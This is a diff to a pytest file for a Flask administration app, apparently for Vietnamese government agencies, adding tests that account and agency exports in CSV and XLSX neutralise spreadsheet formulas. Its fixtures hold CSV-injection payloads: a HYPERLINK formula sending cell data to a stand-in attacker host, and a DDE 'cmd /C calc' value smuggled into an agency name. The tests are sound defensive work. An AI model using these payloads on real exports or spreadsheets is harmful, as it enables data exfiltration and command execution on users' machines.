@@ -4,9 +4,13 @@ and agencies' exports, hostile ids in the form journey."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from engine.core.models import Account, RoleGrant
@@ -135,3 +139,60 @@ def test_a_callback_with_a_hostile_timestamp_is_refused_not_a_500(paying: Flask,
         content_type="application/json",
     )
     assert response.status_code == 403, response.data[:300]
+
+
+# --- formulas in the accounts' and agencies' exports (CSV injection) --------------------
+
+FORMULA = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
+
+
+def _cells(content: bytes, fmt: str) -> list[tuple[str, str]]:
+    """Every (value, openpyxl data type) of an export; CSV cells are all text."""
+    if fmt == "csv":
+        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
+        return [(cell, "s") for row in rows for cell in row]
+    book = load_workbook(io.BytesIO(content))
+    sheet = book.worksheets[0]
+    return [(str(c.value), str(c.data_type)) for row in sheet.iter_rows() for c in row if c.value]
+
+
+@SQLITE
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_never_hand_a_spreadsheet_a_formula(client: FlaskClient, fmt: str) -> None:
+    login(client, "quantri")
+    made = client.post(
+        "/api/v1/officers",
+        json={
+            "username": "congthuc.soxaydung",
+            "full_name": FORMULA,
+            "email": "ct@tuyenquang.example",
+            "phone": "+84 912 000 111",
+            "grants": [{"agency": SO, "role": "chuyen_vien"}],
+        },
+    )
+    assert made.status_code == 201, made.json
+    added = client.post(
+        "/api/v1/agencies",
+        json={"code": "000.05.99.H64", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "kind": "unit", "parent": SO},
+    )
+    assert added.status_code == 201, added.json
+    for path in (f"/quan-tri/tai-khoan/xuat.{fmt}", f"/quan-tri/co-quan/xuat.{fmt}"):
+        response = client.get(path)
+        assert response.status_code == 200
+        cells = _cells(response.data, fmt)
+        assert all(kind != "f" for _, kind in cells), path
+        assert not [v for v, _ in cells if v.startswith(("=", "+", "-", "@"))], path
+    exported = _cells(client.get(f"/quan-tri/tai-khoan/xuat.{fmt}").data, fmt)
+    assert ("'" + FORMULA, "s") in exported  # shown as typed
+
+
+def test_a_reimported_export_reads_the_text_back() -> None:
+    from engine.agencies.sheets import read_table, safe_cell
+
+    line = ",".join(f'"{safe_cell(v)}"' for v in ("=1+1", "-5", "Sở Xây dựng", "'quoted"))
+    assert read_table(("a,b,c,d\n" + line.replace('"', "", 0) + "\n").encode(), "x.csv")[1] == [
+        "=1+1",
+        "-5",
+        "Sở Xây dựng",
+        "'quoted",
+    ]
